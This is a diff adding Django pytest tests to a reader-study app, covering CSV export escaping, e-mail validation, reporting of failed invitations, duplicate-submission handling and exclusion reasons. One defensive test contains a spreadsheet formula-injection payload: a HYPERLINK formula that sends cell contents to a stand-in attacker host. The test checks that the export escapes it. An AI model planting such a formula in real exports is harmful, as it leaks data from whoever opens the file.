@@ -147,3 +147,81 @@ def test_the_api_invites_a_list_through_the_same_rule(client, alice, study):
     again = client.post(url, {"study": study.pk, "readers": "R004\nr002"}, content_type="application/json")
     assert again.status_code == 400 and "already invited" in again.json()["detail"]
     assert Reader.objects.count() == 2
+
+
+@pytest.mark.django_db
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(client, alice, study):
+    formula = '=HYPERLINK("http://evil.example/?"&D3)'
+    invite_readers(study, [InviteRow(1, formula), InviteRow(2, "+1+1"), InviteRow(3, "@SUM(1)"),
+                           InviteRow(4, "-2+3"), InviteRow(5, "Dr. Gray")])
+    client.force_login(alice)
+    rows = list(csv.DictReader(io.StringIO(client.get(f"/coordinator/studies/{study.pk}/readers/links.csv")
+                                           .content.decode())))
+    assert [r["name"] for r in rows] == ["'" + formula, "'+1+1", "'@SUM(1)", "'-2+3", "Dr. Gray"]
+    assert all(r["link"].startswith("http://testserver/r/") for r in rows)
+
+
+@pytest.mark.django_db
+def test_typed_text_in_the_responses_export_cannot_run_as_a_formula(make_study):
+    from readerstudy.export import csv_lines
+    from readerstudy.services import Submission, start_reading, submit_response
+
+    study = make_study(ask_reason=True)
+    reader = invite_readers(study, [InviteRow(1, "R001")])[0][0]
+    start_reading(reader, {"role": "radiologist", "years_experience": 3, "subspecialty": "@neuro"}, consented=True)
+    trials = list(reader.trials.order_by("index")[:2])
+    submit_response(reader, Submission(trial_token=trials[0].token, answer="real", reason="=1+1 looks too smooth"))
+    submit_response(reader, Submission(trial_token=trials[1].token, answer="real", reason="grain (too fine)"))
+    rows = list(csv.DictReader(io.StringIO("".join(csv_lines(study)))))
+    assert [r["reason"] for r in rows] == ["'=1+1 looks too smooth", "grain (too fine)"]
+    assert {r["reader_subspecialty"] for r in rows} == {"'@neuro"}
+
+
+def test_an_address_longer_than_a_reader_can_keep_is_refused():
+    long = "a" * 250 + "@example.org"
+    with pytest.raises(ReaderListError, match="longer than 254 characters"):
+        parse_reader_list(f"Dr. Gray, {long}")
+
+
+@pytest.mark.django_db
+def test_a_failing_e_mail_leaves_the_list_invited_and_says_so(study, monkeypatch):
+    from django.core.mail import BadHeaderError
+
+    sent = []
+
+    def flaky(study, reader, address, link):
+        if reader.name == "Dr. Wu":
+            raise BadHeaderError("Header values can't contain newlines")
+        sent.append(address)
+
+    monkeypatch.setattr("readerstudy.invitations._send_invitation", flaky)
+    readers, failed = invite_readers(study, parse_reader_list("Dr. Wu, wu@example.org\nDr. Gray, gray@example.org"),
+                                     link_for=lambda r: "link")
+    assert [r.name for r in readers] == ["Dr. Wu", "Dr. Gray"] and sent == ["gray@example.org"]
+    assert failed == ["Dr. Wu is invited, but the e-mail to wu@example.org could not be sent (BadHeaderError); "
+                      "use Remind, or copy their link from the table."]
+
+
+@pytest.mark.django_db
+def test_the_same_names_sent_again_with_an_account_added_are_not_taken_for_a_double_click(client, alice, study):
+    client.force_login(alice)
+    stamp = _stamp(client, study)
+    _post_list(client, study, readers="R1", form_stamp=stamp)
+    again = _post_list(client, study, readers=f"R1, , {alice.username}", form_stamp=stamp)
+    assert "already invited" in again.content.decode()
+    assert Reader.objects.get().user is None
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("headers, reason", [
+    ({"HTTP_HX_PROMPT": "50%41 of answers in 1 s"}, "50%41 of answers in 1 s"),  # as typed: never decoded
+    ({"HTTP_HX_PROMPT": "r%C3%A9sident%20absent", "HTTP_HX_PROMPT_URI_AUTOENCODED": "true"}, "résident absent"),
+])
+def test_the_reason_typed_when_excluding_is_kept_as_typed(client, alice, study, headers, reason):
+    reader = invite_readers(study, [InviteRow(1, "R1")])[0][0]
+    client.force_login(alice)
+    response = client.post(f"/coordinator/studies/{study.pk}/readers/{reader.pk}/exclude/", HTTP_HX_REQUEST="true",
+                           **headers)
+    assert response.status_code == 200
+    reader.refresh_from_db()
+    assert reader.excluded and reader.exclusion_reason == reason
